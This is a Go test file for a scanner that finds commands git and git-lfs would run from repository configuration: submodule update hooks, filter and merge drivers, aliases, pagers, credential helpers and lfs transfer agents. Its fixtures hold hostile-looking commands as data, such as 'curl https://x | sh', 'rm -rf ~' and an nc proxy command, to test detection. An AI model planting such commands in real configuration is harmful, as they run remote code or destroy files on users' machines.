package scan

import (
	"errors"
	"slices"
	"testing"
)

// TestExtractGitConfig: the commands git and git-lfs run from
// configuration a repository keeps — submodule update = !cmd in
// .gitmodules, the filter, diff and merge drivers .gitattributes names,
// aliases, pagers and editors in a config template, git-lfs's custom
// transfer agents and extensions in .lfsconfig. None was read (every case
// with commands failed before). Settings that are not commands, a git
// subcommand alias, an update mode and a boolean give nothing.
func TestExtractGitConfig(t *testing.T) {
	checkExtract(t, ".gitmodules", []struct {
		name, src string
		want      []extracted
	}{
		{"update command", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.com/lib.git\n\tupdate = !curl https://x | sh\n", []extracted{{"curl https://x | sh", "4:12"}}},
		{"update mode", "[submodule \"lib\"]\n\tpath = lib\n\tupdate = rebase\n", nil},
	})
	checkExtract(t, ".gitconfig", []struct {
		name, src string
		want      []extracted
	}{
		{"drivers", "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = curl https://x | sh\n\trequired = true\n[diff \"bin\"]\n\ttextconv = hexdump -v -C\n[merge \"ours\"]\n\tdriver = true %O %A %B\n", []extracted{{"git-lfs clean -- %f", "2:10"}, {"curl https://x | sh", "3:11"}, {"hexdump -v -C", "6:13"}, {"true %O %A %B", "8:11"}}},
		{"aliases", "[alias]\n\tst = status\n\tnuke = \"!rm -rf ~\"  # careful\n\tx = ! sh -c 'ls'\n", []extracted{{"rm -rf ~", "3:11"}, {"sh -c 'ls'", "4:8"}}},
		{"core and pager", "[core]\n\tfsmonitor = true\n\tpager = less -R\n\tsshCommand = ssh -o ProxyCommand='nc %h %p'\n[pager]\n\tlog = false\n\tdiff = delta\n", []extracted{{"less -R", "3:10"}, {"ssh -o ProxyCommand='nc %h %p'", "4:15"}, {"delta", "7:9"}}},
		{"escapes and continuation", "[core]\n\teditor = \"vim \\\"+set nu\\\"\" \\\n -n\n", []extracted{{"vim \"+set nu\"  -n", "2:12"}}},
		{"credential helpers", "[credential]\n\thelper = store\n[credential \"https://example.com\"]\n\thelper = \"!f() { echo password=x; }; f\"\n\thelper = /tmp/helper\n", []extracted{{"f() { echo password=x; }; f", "4:13"}, {"/tmp/helper", "5:11"}}},
		{"not commands", "[user]\n\tname = rm -rf ~\n[include]\n\tpath = ../rm -rf\n[core]\n\tautocrlf\n", nil},
	})
	checkExtract(t, ".lfsconfig", []struct {
		name, src string
		want      []extracted
	}{
		{"transfer agent and extension", "[lfs]\n\turl = https://example.com/lfs\n[lfs \"customtransfer.x\"]\n\tpath = sh -c 'curl https://x | sh'\n[lfs \"extension.y\"]\n\tsmudge = ./bin/unpack %f\n", []extracted{{"sh -c 'curl https://x | sh'", "4:9"}, {"./bin/unpack %f", "6:11"}}},
	})
	// A config template's include.path and includeIf.*.path are
	// configuration git reads whatever their names (they were not read).
	tmpl := "[include]\n\tpath = drivers.conf\n[includeIf \"gitdir:~/work/\"]\n\tpath = ../shared/work\n[include]\n\tpath = ~/.gitconfig.local\n"
	if got, want := gitIncludes("tools/repo.gitconfig", []byte(tmpl)), []string{"tools/drivers.conf", "shared/work"}; !slices.Equal(got, want) {
		t.Errorf("gitIncludes = %q, want %q", got, want)
	}
	files := []File{{Path: "tools/repo.gitconfig", Src: []byte(tmpl)}, {Path: "tools/drivers.conf", Src: []byte("[filter \"x\"]\n\tsmudge = ls\n")}, {Path: "tools/other.conf"}}
	kinds := map[string]Kind{}
	for _, f := range included("", files, GitConfig, gitIncludes) {
		kinds[f.Path] = f.Kind()
	}
	if kinds["tools/drivers.conf"] != GitConfig || kinds["tools/other.conf"] != "" {
		t.Errorf("kinds %v: want the included file, and only it, read as git configuration", kinds)
	}
	for name, want := range map[string]Kind{
		".gitmodules": GitConfig, ".lfsconfig": GitConfig, ".gitconfig": GitConfig, "gitconfig": GitConfig,
		"dotfiles/work.gitconfig": GitConfig, "home/.config/git/config": GitConfig,
		"config": "", ".git-blame-ignore-revs": "", ".gitattributes": "", "app/config": "",
	} {
		if got := KindOf(name); got != want {
			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestExtractGitConfigCodeKeys: settings git reads on the line of their
// section header ([core] fsmonitor = …), a ] inside a quoted subsection,
// the code-bearing keys the table lacked (core.gitProxy, trailer.*.cmd,
// difftool/mergetool.*.path, interactive.diffFilter, sendemail.toCmd,
// gpg.ssh.defaultKeyCommand, man.*.cmd), and a git-lfs transfer agent's
// args read with its path as one command line. Every case but the
// controls gave nothing on 17c6cc7 (the lfs agent gave "sh" alone, an
// interactive shell, not the code in its args).
func TestExtractGitConfigCodeKeys(t *testing.T) {
	checkExtract(t, "repo.gitconfig", []struct {
		name, src string
		want      []extracted
	}{
		{"setting on the header line", "[core] fsmonitor = \"curl https://x | sh\"\n", []extracted{{"curl https://x | sh", "1:21"}}},
		{"two headers then a setting", "[user]\n[core]pager=less -R # c\n", []extracted{{"less -R", "2:13"}}},
		{"bracket in a quoted subsection", "[filter \"a]b\"] smudge = rm -rf ~\n", []extracted{{"rm -rf ~", "1:25"}}},
		{"gitProxy", "[core]\n\tgitProxy = ./tools/proxy.sh\n", []extracted{{"./tools/proxy.sh", "2:13"}}},
		{"trailer command", "[trailer \"sign\"]\n\tcmd = curl https://x | sh\n\tcommand = ./t.sh\n", []extracted{{"curl https://x | sh", "2:8"}, {"./t.sh", "3:12"}}},
		{"diff and merge tool paths", "[difftool \"x\"]\n\tpath = /tmp/evil\n[mergetool \"y\"]\n\tpath = ./bin/merge\n", []extracted{{"/tmp/evil", "2:9"}, {"./bin/merge", "4:9"}}},
		{"interactive, sendemail, gpg, man", "[interactive]\n\tdiffFilter = ./f\n[sendemail]\n\ttoCmd = ./to\n[gpg \"ssh\"]\n\tdefaultKeyCommand = ./k\n[man \"x\"]\n\tcmd = ./m\n", []extracted{{"./f", "2:15"}, {"./to", "4:10"}, {"./k", "6:22"}, {"./m", "8:8"}}},
		{"lfs transfer agent args", "[lfs \"customtransfer.z\"]\n\tpath = sh\n\targs = -c 'curl https://x | sh'\n", []extracted{{"sh -c 'curl https://x | sh'", "2:9"}}},
		{"lfs transfer agent args first", "[lfs.customtransfer.z]\n\targs = -c ./x\n\tpath = sh\n", []extracted{{"sh -c ./x", "3:9"}}},
		// Controls: values that choose a built-in are not commands.
		{"not commands", "[ssh]\n\tvariant = ssh\n[diff]\n\ttool = vimdiff\n[alias \"a\"]\n\tx = !rm -rf ~\n", nil},
	})
}

// TestExtractGitConfigUnreadable: a line git refuses (git stops reading
// the file there) is a syntax error, which scan reports (scan-unparsable,
// C), with the commands found before it. guard skipped such lines and
// read on: a header without its ] hid the section guard then assumed.
// Each gave no error on 17c6cc7.
func TestExtractGitConfigUnreadable(t *testing.T) {
	for name, src := range map[string]string{
		"header without ]":          "[core\n\tpager = less\n",
		"unterminated subsection":   "[filter \"x]\n\tsmudge = ./s\n",
		"key then no =":             "[core]\n\tpager less\n",
		"key starting with a digit": "[core]\n\t1pager = less\n",
		"text after subsection":     "[filter \"x\" y]\n\tsmudge = ./s\n",
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Extract(".gitconfig", []byte(src))
			var se *SyntaxError
			if !errors.As(err, &se) || se.Path != ".gitconfig" {
				t.Fatalf("Extract = %v, want a *SyntaxError for .gitconfig", err)
			}
		})
	}
	// Controls: a key alone (true), comments and blank lines read; a
	// byte order mark, which git skips, as well.
	for _, src := range []string{"[core]\n\tbare\n; c\n# c\n\n\tpager = less # x\n", "\xef\xbb\xbf[core]\r\n\tpager = less\r\n"} {
		if sn, err := Extract(".gitconfig", []byte(src)); err != nil || len(sn) != 1 {
			t.Errorf("Extract(%q) = %v, %v; want one snippet and no error", src, sn, err)
		}
	}
}
